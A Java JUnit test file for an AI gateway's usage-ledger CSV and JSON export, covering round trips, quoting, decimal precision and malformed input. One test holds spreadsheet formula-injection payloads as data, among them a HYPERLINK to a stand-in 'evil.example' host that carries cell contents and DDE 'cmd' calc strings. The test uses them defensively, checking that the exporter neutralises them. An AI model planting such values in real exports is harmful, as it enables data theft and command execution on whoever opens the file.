package dev.aigateway.core.telemetry;

import static dev.aigateway.core.telemetry.LedgerEvents.estimated;
import static dev.aigateway.core.telemetry.LedgerEvents.rejected;
import static dev.aigateway.core.telemetry.LedgerEvents.reported;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.aigateway.api.LedgerEntry;
import dev.aigateway.api.QuotaPeriod;
import dev.aigateway.api.Usage;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.io.Writer;
import java.math.BigDecimal;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class LedgerExportTest {

  private static final Instant T = Instant.parse("2025-03-14T10:15:30Z");
  private static final List<String> AWKWARD =
      List.of(
          "plain",
          "comma, inside",
          "say \"hi\"",
          "\"quoted\"",
          "line\nbreak",
          "crlf\r\nbreak",
          "  spaced  ",
          "",
          "ünïcødé 日本語 🚀",
          "=1+2",
          "'=1+2",
          "'",
          "@SUM(A1)",
          "\tstarts with a tab",
          ",",
          "\"",
          "tab\there");

  /** A ledger with awkward consumer and model names, priced and unpriced, estimated and not. */
  private static UsageLedger awkwardLedger() {
    UsageLedger ledger =
        UsageLedger.builder()
            .priceTable(
                PriceTable.builder()
                    .model("gpt-4o", Price.perMillion("2.50", "1.25", "10.00"))
                    .modelPrefix("gpt-4o-mini", Price.perMillion("0.15", "0.075", "0.60"))
                    .build())
            .build();
    for (int i = 0; i < AWKWARD.size(); i++) {
      String name = AWKWARD.get(i);
      ledger.onEvent(
          reported(name, "gpt-4o-mini", T, new Usage(1_234_567, 89, 1_234_656, 4_567, 0)));
      ledger.onEvent(reported("team-a", name, T, Usage.of(i, i)));
      ledger.onEvent(estimated(name, "gpt-4o", T.plusSeconds(i), Usage.of(10, 5)));
      ledger.onEvent(rejected(name, name, T));
    }
    return ledger;
  }

  @Test
  void csvRoundTripsToEqualRows() throws IOException {
    UsageLedger ledger = awkwardLedger();
    StringWriter csv = new StringWriter();

    ledger.writeCsv(csv);

    List<LedgerEntry> read = UsageLedger.readCsv(new StringReader(csv.toString()));
    assertThat(read).hasSizeGreaterThan(AWKWARD.size() * 3).isEqualTo(ledger.entries());
    assertThat(read).extracting(LedgerEntry::consumer).containsAll(AWKWARD);
    assertThat(read)
        .extracting(LedgerEntry::cost)
        .containsNull()
        // (1,230,000 x 0.15 + 4,567 x 0.075 + 89 x 0.60) / 1,000,000
        .contains(new BigDecimal("0.184895925"));
  }

  @Test
  void jsonRoundTripsToEqualRows() throws IOException {
    UsageLedger ledger = awkwardLedger();
    StringWriter json = new StringWriter();

    ledger.writeJson(json);

    List<LedgerEntry> read = UsageLedger.readJson(new StringReader(json.toString()));
    assertThat(read).hasSizeGreaterThan(AWKWARD.size() * 3).isEqualTo(ledger.entries());
  }

  @Test
  void csvHasAHeaderAndQuotesOnlyWhatNeedsIt() throws IOException {
    List<LedgerEntry> rows =
        List.of(
            new LedgerEntry(
                Instant.parse("2025-03-01T00:00:00Z"),
                QuotaPeriod.MONTHLY,
                "team-a",
                "gpt-4o",
                3,
                1_000,
                400,
                200,
                1_200,
                15,
                new BigDecimal("0.00400000"),
                null),
            new LedgerEntry(
                Instant.parse("2025-03-14T10:00:00Z"),
                QuotaPeriod.HOURLY,
                "a,\"b\"",
                " m ",
                1,
                0,
                0,
                0,
                0,
                0,
                null,
                new BigDecimal("0E-8")));
    StringWriter csv = new StringWriter();

    UsageLedger.writeCsv(rows, csv);

    assertThat(csv.toString())
        .isEqualTo(
            "period,period_start,consumer,model,calls,input_tokens,cached_input_tokens,output_tokens,"
                + "total_tokens,estimated_tokens,cost,estimated_cost\r\n"
                + "MONTHLY,2025-03-01T00:00:00Z,team-a,gpt-4o,3,1000,400,200,1200,15,0.00400000,\r\n"
                + "HOURLY,2025-03-14T10:00:00Z,\"a,\"\"b\"\"\",\" m \",1,0,0,0,0,0,,0.00000000\r\n");
  }

  @Test
  void csvNamesThatASpreadsheetWouldRunAsFormulasAreWrittenAsText() throws IOException {
    // Callers choose consumer and model names (a header, a request's model): one that a
    // spreadsheet opening the export would take for a formula is written after an apostrophe,
    // which makes the cell text, and read back without it.
    UsageLedger ledger = UsageLedger.builder().build();
    List<String> formulas =
        List.of(
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"invoice\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+2",
            "\r=1+2",
            "'=already quoted");
    for (String name : formulas) {
      ledger.onEvent(rejected(name, name, T));
    }
    StringWriter csv = new StringWriter();

    ledger.writeCsv(csv);

    for (String line : csv.toString().split("\r\n")) {
      for (String field : line.split(",")) {
        String text = field.startsWith("\"") ? field.substring(1) : field;
        assertThat(text).as(line).doesNotStartWith("=").doesNotStartWith("+");
        assertThat(text).as(line).doesNotStartWith("-").doesNotStartWith("@");
        assertThat(text).as(line).doesNotStartWith("\t").doesNotStartWith("\r");
      }
    }
    assertThat(csv.toString())
        .contains("'=HYPERLINK(", "'+1+cmd", ",'-2+3,", "'@SUM(", "''=already quoted");
    List<LedgerEntry> read = UsageLedger.readCsv(new StringReader(csv.toString()));
    assertThat(read).isEqualTo(ledger.entries());
    assertThat(read).extracting(LedgerEntry::consumer).containsAll(formulas);
    assertThat(read).extracting(LedgerEntry::model).containsAll(formulas);
  }

  @Test
  void jsonKeepsCostsAsDecimalStrings() throws IOException {
    List<LedgerEntry> rows =
        List.of(
            new LedgerEntry(
                Instant.parse("2025-03-01T00:00:00Z"),
                QuotaPeriod.MONTHLY,
                "team-a",
                "gpt-4o",
                3,
                1_000,
                400,
                200,
                1_200,
                15,
                new BigDecimal("0.18518505"),
                null));
    StringWriter json = new StringWriter();

    UsageLedger.writeJson(rows, json);

    assertThat(json.toString().replaceAll("\\s", ""))
        .isEqualTo(
            "[{\"period\":\"MONTHLY\","
                + "\"periodStart\":\"2025-03-01T00:00:00Z\",\"consumer\":\"team-a\",\"model\":\"gpt-4o\","
                + "\"calls\":3,\"inputTokens\":1000,\"cachedInputTokens\":400,\"outputTokens\":200,"
                + "\"totalTokens\":1200,\"estimatedTokens\":15,\"cost\":\"0.18518505\","
                + "\"estimatedCost\":null}]");
  }

  @Test
  void decimalsOfAnyScaleRoundTripExactly() throws IOException {
    List<LedgerEntry> rows =
        List.of(
            entry(new BigDecimal("1E+3"), new BigDecimal("0.000000000000000001")),
            entry(new BigDecimal("12345678901234567890.123456789"), BigDecimal.ZERO));

    StringWriter csv = new StringWriter();
    UsageLedger.writeCsv(rows, csv);
    StringWriter json = new StringWriter();
    UsageLedger.writeJson(rows, json);

    assertThat(UsageLedger.readCsv(new StringReader(csv.toString()))).isEqualTo(rows);
    assertThat(UsageLedger.readJson(new StringReader(json.toString()))).isEqualTo(rows);
  }

  @Test
  void anEmptyLedgerRoundTrips() throws IOException {
    UsageLedger ledger = UsageLedger.builder().build();
    StringWriter csv = new StringWriter();
    StringWriter json = new StringWriter();

    ledger.writeCsv(csv);
    ledger.writeJson(json);

    assertThat(UsageLedger.readCsv(new StringReader(csv.toString()))).isEmpty();
    assertThat(UsageLedger.readJson(new StringReader(json.toString()))).isEmpty();
  }

  @Test
  void csvWithLfLineEndsAByteOrderMarkAndATrailingBlankLineReads() throws IOException {
    String csv =
        "\uFEFFperiod,period_start,consumer,model,calls,input_tokens,cached_input_tokens,"
            + "output_tokens,total_tokens,estimated_tokens,cost,estimated_cost\n"
            + "DAILY,2025-03-14T00:00:00Z,\"multi\nline\",m,1,2,0,3,5,0,0.5,\n\n";

    assertThat(UsageLedger.readCsv(new StringReader(csv)))
        .containsExactly(
            new LedgerEntry(
                Instant.parse("2025-03-14T00:00:00Z"),
                QuotaPeriod.DAILY,
                "multi\nline",
                "m",
                1,
                2,
                0,
                3,
                5,
                0,
                new BigDecimal("0.5"),
                null));
  }

  @Test
  void aCostWrittenAsAJsonNumberIsReadExactly() throws IOException {
    String json =
        "[{\"period\":\"DAILY\",\"periodStart\":\"2025-03-14T00:00:00Z\","
            + "\"consumer\":\"c\",\"model\":\"m\",\"calls\":1,\"inputTokens\":0,"
            + "\"cachedInputTokens\":0,\"outputTokens\":0,\"totalTokens\":0,\"estimatedTokens\":0,"
            + "\"cost\":0.1000000000000000055511151231257827,\"estimatedCost\":0.30}]";

    LedgerEntry row = UsageLedger.readJson(new StringReader(json)).get(0);

    assertThat(row.cost()).isEqualTo(new BigDecimal("0.1000000000000000055511151231257827"));
    assertThat(row.estimatedCost()).isEqualTo(new BigDecimal("0.30"));
  }

  @Test
  void aCsvWithTheWrongHeaderIsRejectedWithTheHeaderItHad() {
    assertThatThrownBy(() -> UsageLedger.readCsv(new StringReader("period,start\r\n")))
        .isInstanceOf(IOException.class)
        .hasMessage(
            "ledger CSV header must be period,period_start,consumer,model,calls,"
                + "input_tokens,cached_input_tokens,output_tokens,total_tokens,estimated_tokens,cost,"
                + "estimated_cost but was period,start");
    assertThatThrownBy(() -> UsageLedger.readCsv(new StringReader("")))
        .isInstanceOf(IOException.class)
        .hasMessageStartingWith("ledger CSV is empty");
  }

  @Test
  void aMalformedCsvRecordIsRejectedWithItsLine() throws IOException {
    StringWriter csv = new StringWriter();
    UsageLedger.writeCsv(List.of(), csv);
    String header = csv.toString();

    assertThatThrownBy(
            () ->
                UsageLedger.readCsv(
                    new StringReader(
                        header + "DAILY,2025-03-14T00:00:00Z,c,m,one,0,0,0,0,0,,\r\n")))
        .isInstanceOf(IOException.class)
        .hasMessageStartingWith("ledger CSV record at line 2 is malformed")
        .hasMessageContaining("one");
    assertThatThrownBy(() -> UsageLedger.readCsv(new StringReader(header + "DAILY,x\r\n")))
        .isInstanceOf(IOException.class)
        .hasMessage("ledger CSV record at line 2 must have 12 fields but had 2: [DAILY, x]");
    assertThatThrownBy(() -> UsageLedger.readCsv(new StringReader(header + "\"open")))
        .isInstanceOf(IOException.class)
        .hasMessage("ledger CSV has an unterminated quoted field starting at line 2");
    assertThatThrownBy(
            () ->
                UsageLedger.readCsv(
                    new StringReader(header + "DAILY,2025-03-14T00:00:00Z,c,m,-1,0,0,0,0,0,,\r\n")))
        .isInstanceOf(IOException.class)
        .hasMessageContaining("ledger counts must be >= 0 but were calls=-1");
  }

  @Test
  void aMalformedCsvRecordIsRejectedWithItsLineWhenLinesEndInABareCr() throws IOException {
    StringWriter csv = new StringWriter();
    UsageLedger.writeCsv(List.of(), csv);
    String header = csv.toString().replace("\r\n", "\r");
    String record = "DAILY,2025-03-14T00:00:00Z,\"two%slines\",m,1,2,0,3,5,0,0.5,\r";

    // Line 1 the header, lines 2 and 3 a record whose quoted field spans them, line 4 the bad one.
    for (String lineEnd : List.of("\r", "\n", "\r\n")) {
      assertThatThrownBy(
              () ->
                  UsageLedger.readCsv(
                      new StringReader(header + record.formatted(lineEnd) + "DAILY,x\r")))
          .as(
              "a quoted field spanning a line end %s",
              lineEnd.replace("\r", "CR").replace("\n", "LF"))
          .isInstanceOf(IOException.class)
          .hasMessage("ledger CSV record at line 4 must have 12 fields but had 2: [DAILY, x]");
    }
  }

  @Test
  void malformedJsonIsRejectedWithTheRow() {
    assertThatThrownBy(() -> UsageLedger.readJson(new StringReader("{}")))
        .isInstanceOf(IOException.class)
        .hasMessage("ledger JSON must be an array of rows but was OBJECT");
    assertThatThrownBy(() -> UsageLedger.readJson(new StringReader("[{\"period\":\"DAILY\"}]")))
        .isInstanceOf(IOException.class)
        .hasMessageStartingWith("ledger JSON row 0 is malformed (periodStart must be a string");
    assertThatThrownBy(() -> UsageLedger.readJson(new StringReader("[1,")))
        .isInstanceOf(IOException.class);
  }

  @Test
  void exportsLeaveTheWriterOpen() throws IOException {
    boolean[] closed = {false};
    StringWriter target = new StringWriter();
    Writer writer =
        new Writer() {
          @Override
          public void write(char[] buf, int off, int len) {
            target.write(buf, off, len);
          }

          @Override
          public void flush() {}

          @Override
          public void close() {
            closed[0] = true;
          }
        };

    awkwardLedger().writeJson(writer);
    awkwardLedger().writeCsv(writer);

    assertThat(closed[0]).isFalse();
    assertThat(target.toString()).isNotEmpty();
  }

  @Test
  void aQueryResultCanBeExported() throws IOException {
    UsageLedger ledger = awkwardLedger();
    List<LedgerEntry> march = ledger.usage(QuotaPeriod.MONTHLY, T);
    StringWriter csv = new StringWriter();

    UsageLedger.writeCsv(march, csv);

    assertThat(UsageLedger.readCsv(new StringReader(csv.toString()))).isEqualTo(march);
  }

  private static LedgerEntry entry(BigDecimal cost, BigDecimal estimatedCost) {
    return new LedgerEntry(
        Instant.parse("2025-03-14T00:00:00Z"),
        QuotaPeriod.DAILY,
        "c",
        "m",
        1,
        0,
        0,
        0,
        0,
        0,
        cost,
        estimatedCost);
  }
}
